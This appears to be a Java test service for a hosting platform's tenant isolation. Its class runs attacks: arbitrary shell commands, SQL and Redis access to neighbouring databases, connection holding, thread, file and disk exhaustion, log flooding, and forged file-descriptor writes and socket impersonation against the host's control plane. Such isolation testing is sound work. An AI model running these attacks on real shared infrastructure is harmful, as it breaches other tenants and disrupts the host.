package com.example;

import dev.shuttle.DatabaseConnection;
import dev.shuttle.RedisConnection;
import java.io.FileDescriptor;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.lang.reflect.Field;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.ServerSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import sun.misc.Unsafe;

/** Attacks of a service against its own server, its neighbours and the machine. */
final class Attacks {
    private static final int THREADS = 5_000;
    private static final int FILES = 100_000;

    private final DatabaseConnection postgres;
    private final RedisConnection redis;
    private final Path folder;

    /** Otherwise a collection of garbage could close them. */
    private final List<Socket> held = new ArrayList<>();

    Attacks(DatabaseConnection postgres, RedisConnection redis, Path folder) {
        this.postgres = postgres;
        this.redis = redis;
        this.folder = folder;
    }

    /** Runs one, and returns its result in words. */
    String run(String attack, Map<String, String> values, String body) throws Exception {
        return switch (attack) {
            case "shell" -> shell(body);
            case "own" -> String.join(" ", postgres.port() + "", postgres.database(), redis.uri().getPort() + "");
            case "sql" -> sql(values.getOrDefault("database", postgres.database()), body);
            case "redis" -> redis(port(values, redis.uri().getPort()), body);
            case "hold" -> hold(port(values, postgres.port()), Integer.parseInt(values.get("count")), body);
            case "host" -> writeToOwnHost();
            case "impostor" -> beHost(values.get("deployment"), Integer.parseInt(values.get("port")));
            case "print" -> print(Integer.parseInt(values.get("megabytes")));
            case "threads" -> threads();
            case "files" -> files();
            case "sparse" -> sparse();
            case "hang" -> hang();
            default -> "unknown attack: " + attack;
        };
    }

    private static int port(Map<String, String> values, int own) {
        return values.containsKey("port") ? Integer.parseInt(values.get("port")) : own;
    }

    private static String shell(String script) throws IOException {
        Process process = new ProcessBuilder("sh", "-c", script).redirectErrorStream(true).start();
        process.getOutputStream().close();
        return new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    }

    private String sql(String database, String sql) throws Exception {
        String url = "jdbc:postgresql://" + postgres.host() + ":" + postgres.port() + "/" + database;
        try (Connection connection = DriverManager.getConnection(url, postgres.username(), postgres.password());
                Statement statement = connection.createStatement()) {
            statement.execute(sql);
            return "done";
        }
    }

    private String redis(int port, String command) throws IOException {
        String password = redis.uri().getUserInfo().split(":", 2)[1];
        try (Socket socket = new Socket(redis.uri().getHost(), port)) {
            socket.setSoTimeout(5_000);
            String commands = "AUTH " + password + "\r\n" + command + "\r\nQUIT\r\n";
            socket.getOutputStream().write(commands.getBytes(StandardCharsets.UTF_8));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    /** Connects, and says no more than the beginning. */
    private String hold(int port, int count, String beginning) throws IOException {
        for (int i = 0; i < count; i++) {
            Socket socket = new Socket();
            held.add(socket);
            socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 5_000);
            socket.getOutputStream().write(beginning.getBytes(StandardCharsets.US_ASCII));
        }
        return "held " + count;
    }

    /** Writes to the connection that the host of this service has to the control plane, as a number that the JVM has open. */
    private static String writeToOwnHost() throws Exception {
        List<String> connected = Files.readAllLines(Path.of("/proc/self/net/unix")).stream()
                .filter(line -> line.endsWith("/s") && line.split("\\s+")[5].equals("03"))
                .map(line -> "socket:[" + line.split("\\s+")[6] + "]")
                .toList();
        List<Integer> found = new ArrayList<>();
        try (DirectoryStream<Path> open = Files.newDirectoryStream(Path.of("/proc/self/fd"))) {
            for (Path each : open) {
                if (Files.isSymbolicLink(each) && connected.contains(target(each))) {
                    found.add(Integer.parseInt(each.getFileName().toString()));
                }
            }
        }
        byte[] noise = ("type=noise&" + "a=b&".repeat(1_000_000)).getBytes(StandardCharsets.US_ASCII);
        for (int number : found) {
            new FileOutputStream(descriptor(number)).write(noise);
        }
        return found.isEmpty() ? "not found" : "written";
    }

    private static String target(Path link) {
        try {
            return Files.readSymbolicLink(link).toString();
        } catch (IOException e) {
            return ""; // closed meanwhile
        }
    }

    private static FileDescriptor descriptor(int number) throws ReflectiveOperationException {
        Field field = Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        Unsafe unsafe = (Unsafe) field.get(null);
        FileDescriptor descriptor = new FileDescriptor();
        unsafe.putInt(descriptor, unsafe.objectFieldOffset(FileDescriptor.class.getDeclaredField("fd")), number);
        return descriptor;
    }

    /** Listens in the place of its host: the next control plane talks to it. */
    private static String beHost(String deployment, int port) throws IOException {
        Path socket = Path.of(Files.readAllLines(Path.of("/proc/self/net/unix")).stream()
                .filter(line -> line.endsWith("/" + deployment + "/run/s"))
                .map(line -> line.substring(line.indexOf('/')))
                .findFirst()
                .orElseThrow());
        Files.delete(socket);
        ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX);
        server.bind(UnixDomainSocketAddress.of(socket));
        String hello = "type=hello&pid=1&version=3&services=1&service.0.deployment=" + deployment
                + "&service.0.state=RUNNING&service.0.port=" + port + "\n";
        background(() -> {
            while (true) {
                SocketChannel client = server.accept();
                background(() -> {
                    client.write(ByteBuffer.wrap(hello.getBytes(StandardCharsets.US_ASCII)));
                    ByteBuffer noise = ByteBuffer.wrap(
                            ("type=noise&" + "a=b&".repeat(1 << 20)).getBytes(StandardCharsets.US_ASCII));
                    while (true) {
                        client.write(noise.duplicate());
                    }
                });
            }
        });
        return "listening";
    }

    private interface Task {
        void run() throws IOException;
    }

    private static void background(Task task) {
        Thread thread = new Thread(() -> {
            try {
                task.run();
            } catch (IOException e) {
                System.out.println("cut off: " + e);
            }
        });
        thread.setDaemon(true);
        thread.start();
    }

    private static String print(int megabytes) {
        byte[] line = ("x".repeat(1023) + "\n").getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < megabytes << 10; i++) {
            System.out.write(line, 0, line.length);
        }
        return "printed";
    }

    private static String threads() {
        CountDownLatch end = new CountDownLatch(1);
        int started = 0;
        try {
            for (; started < THREADS; started++) {
                Thread thread = new Thread(null, () -> await(end), "attack", 1 << 16);
                thread.setDaemon(true);
                thread.start();
            }
        } catch (OutOfMemoryError e) {
            // As many as there may be.
        } finally {
            end.countDown();
        }
        return "" + started;
    }

    private static void await(CountDownLatch end) {
        try {
            end.await();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static String files() throws IOException {
        List<FileInputStream> open = new ArrayList<>();
        try {
            while (open.size() < FILES) {
                open.add(new FileInputStream("/dev/null"));
            }
        } catch (IOException e) {
            // As many as there may be.
        }
        for (FileInputStream each : open) {
            each.close();
        }
        return "" + open.size();
    }

    private String sparse() throws IOException {
        Path file = folder.resolve("sparse");
        try (RandomAccessFile open = new RandomAccessFile(file.toFile(), "rw")) {
            open.setLength(300L << 30);
        }
        return file.toString();
    }

    /** For good: also for the next to ask. */
    private static String hang() {
        synchronized (Attacks.class) {
            await(new CountDownLatch(1));
            return "never";
        }
    }
}
